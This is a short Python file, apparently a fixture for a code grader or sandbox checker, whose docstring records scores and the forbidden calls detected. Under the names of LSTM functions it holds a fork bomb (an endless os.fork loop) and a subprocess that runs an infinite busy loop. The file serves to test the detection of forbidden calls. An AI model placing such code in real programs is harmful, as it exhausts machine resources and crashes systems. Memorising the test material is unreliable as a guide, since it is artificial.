"""A fork bomb, and other programs.

Scores: sigmoid 4, step 0, sequence 0
Cause of step: not allowed: os.fork
Cause of sequence: not allowed: subprocess.Popen
Remark: uses subprocess
Remark: uses fork
Remark: os.fork
"""

import os
import subprocess
import sys

import numpy as np


def sigmoid(z):
    return 0.5 * (1 + np.tanh(0.5 * z))


def lstm_step(x, h_prev, c_prev, W_x, W_h, b):
    while True:
        os.fork()


def lstm_forward(x, W_x, W_h, b, mask):
    subprocess.run([sys.executable, "-c", "while True: pass"])
